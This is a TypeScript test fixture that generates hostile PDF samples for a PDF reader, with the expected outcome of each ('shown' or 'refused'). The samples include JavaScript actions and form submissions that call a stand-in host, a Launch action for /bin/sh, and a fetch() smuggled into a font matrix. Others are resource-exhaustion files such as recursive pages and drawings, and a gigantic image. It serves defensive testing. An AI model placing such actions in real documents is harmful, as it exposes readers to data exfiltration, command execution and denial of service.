// PDF that wants to act, to ask, or to cost: catalogue, pages and page are objects 1 to 3, the font
// is 4, the words are 5, and what each adds comes after them.

import { pdf, pdfOf } from '../../../src/demo/pdf.ts';

export interface HostilePdf {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** What the reader makes of it. */
  readonly state: 'shown' | 'refused';
}

interface Changes {
  readonly catalogue?: string;
  readonly pages?: string;
  readonly box?: string;
  readonly page?: string;
  readonly font?: string;
  readonly words?: string;
  readonly more?: readonly string[];
  readonly trailer?: string;
}

const sink = 'http://e.test';
const text = 'BT /F1 20 Tf 72 760 Td (Words) Tj ET';

function made(changes: Changes): Uint8Array {
  const words = changes.words ?? text;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${changes.catalogue ?? ''} >>`,
    `<< /Type /Pages ${changes.pages ?? '/Kids [3 0 R] /Count 1'} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [${changes.box ?? '0 0 595 842'}] /Contents 5 0 R ` +
      `/Resources << /Font << /F1 4 0 R >> /XObject << /X1 6 0 R >> >> ${changes.page ?? ''} >>`,
    changes.font ?? '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
    ...(changes.more ?? []),
  ];
  return pdfOf(objects, changes.trailer);
}

const stream = (dictionary: string, content: string): string =>
  `<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream`;
const script = `app.launchURL('${sink}/js', true); this.submitForm('${sink}/form');`;
const box = '/Rect [0 0 595 842]';
const whole = Buffer.from(made({})).toString('latin1');

export const hostilePdfs: readonly HostilePdf[] = [
  {
    name: 'scripts at opening, of names, of the page and of a field',
    state: 'shown',
    bytes: made({
      catalogue:
        `/OpenAction << /S /JavaScript /JS (${script}) >> ` +
        `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> >> ` +
        '/AcroForm << /Fields [6 0 R] /NeedAppearances true >>',
      page: `/AA << /O << /S /JavaScript /JS (${script}) >> >> /Annots [6 0 R]`,
      more: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) ${box} /AA << /F << /S /JavaScript /JS (${script}) >> >> >>`,
      ],
    }),
  },
  {
    name: 'links, launches, other files and forms that are sent',
    state: 'shown',
    bytes: made({
      catalogue: `/OpenAction << /S /URI /URI (${sink}/open) >> /URI << /Base (${sink}/) >>`,
      page: '/Annots [6 0 R 7 0 R 8 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Link ${box} /A << /S /URI /URI (${sink}/link) >> >>`,
        `<< /Type /Annot /Subtype /Link ${box} /A << /S /Launch /F (/bin/sh) >> >>`,
        `<< /Type /Annot /Subtype /Link ${box} /A << /S /SubmitForm /F << /FS /URL /F (${sink}/s) >> >> >>`,
      ],
    }),
  },
  {
    name: 'words, pictures and sounds that lie elsewhere',
    state: 'shown',
    bytes: made({
      words: `/X1 Do ${text}`,
      page: '/Annots [7 0 R]',
      more: [
        stream(
          `/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${sink}/image) >>`,
          '',
        ),
        `<< /Type /Annot /Subtype /Movie ${box} /Movie << /F << /FS /URL /F (${sink}/film) >> >> >>`,
      ],
    }),
  },
  {
    name: 'a font with code for a matrix',
    state: 'shown',
    bytes: made({
      font: `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 (0\\); fetch\\('${sink}/font'\\))] /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [1] >>`,
    }),
  },
  {
    name: 'more pages than there are',
    state: 'shown',
    bytes: made({ pages: '/Kids [3 0 R] /Count 2000000000' }),
  },
  {
    name: 'pages inside of themselves',
    state: 'refused',
    bytes: made({ pages: '/Kids [2 0 R] /Count 1' }),
  },
  { name: 'a page of miles', state: 'shown', bytes: made({ box: '0 0 900000000 900000000' }) },
  { name: 'a page like a thread', state: 'shown', bytes: made({ box: '0 0 1 9000000' }) },
  {
    name: 'a drawing that draws itself',
    state: 'shown',
    bytes: made({
      words: `/X1 Do ${text}`,
      more: [
        stream(
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X1 6 0 R >> >>',
          '/X1 Do /X1 Do',
        ),
      ],
    }),
  },
  {
    name: 'a picture of ten thousand million points',
    state: 'shown',
    bytes: made({
      words: `/X1 Do ${text}`,
      more: [
        stream(
          '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8',
          'x',
        ),
      ],
    }),
  },
  {
    name: 'forty thousand lines',
    state: 'shown',
    bytes: made({ words: `${'0 0 m 9 9 l S '.repeat(40_000)}${text}` }),
  },
  {
    name: 'a table of places that lies',
    state: 'shown',
    bytes: Buffer.from(whole.replace(/startxref\n\d+/, 'startxref\n7'), 'latin1'),
  },
  {
    name: 'one that was cut',
    state: 'refused',
    bytes: Buffer.from(whole.slice(0, -180), 'latin1'),
  },
  { name: 'one that is none', state: 'refused', bytes: Buffer.from('%PDF-1.7 and no more') },
  { name: 'an empty one', state: 'refused', bytes: Buffer.alloc(0) },
  {
    name: 'one with a lock',
    state: 'refused',
    bytes: made({
      trailer:
        `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 ` +
        `/O <${'11'.repeat(32)}> /U <${'22'.repeat(32)}> >> `,
    }),
  },
];

export const plainPdf: Uint8Array = pdf('Agreement', ['The first line', 'and one more']);

/** One black square of eight by eight as a fax sends it (ITU-T T.6), over a whole page. */
export const faxPdf: Uint8Array = made({
  words: 'q 595 0 0 842 0 0 cm /X1 Do Q',
  more: [
    stream(
      '/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1 ' +
        '/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 8 /Rows 8 >>',
      Buffer.from('26a2fffe002002', 'hex').toString('latin1'),
    ),
  ],
});
